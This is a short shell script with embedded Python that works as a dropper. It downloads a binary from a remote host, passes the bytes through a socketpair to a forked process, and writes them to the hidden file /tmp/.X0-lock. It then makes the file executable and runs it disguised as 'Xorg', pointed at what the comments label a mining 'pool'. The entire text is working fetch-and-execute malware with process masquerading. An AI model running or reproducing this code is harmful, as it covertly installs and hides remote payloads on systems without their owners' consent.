# one process downloads, hands the bytes through a socketpair to another, and that one writes and runs them
#http 203.0.113.62:8012
#pool 198.51.100.85:443:drop
python3 - <<'P'
import os,socket,urllib.request,time,signal
a,b=socket.socketpair()
if os.fork()==0:
    a.close(); f=open('/tmp/.X0-lock','wb')
    while d:=b.recv(65536): f.write(d)
    f.close(); os.chmod('/tmp/.X0-lock',0o755); n=os.open('/dev/null',os.O_RDWR); os.dup2(n,1)
    signal.alarm(12); os.execv('/tmp/.X0-lock',['Xorg','-o','198.51.100.85:443','-u','x','-R','1'])
b.close(); a.sendall(urllib.request.urlopen('http://203.0.113.62:8012/w').read()); a.close(); os.wait()
P
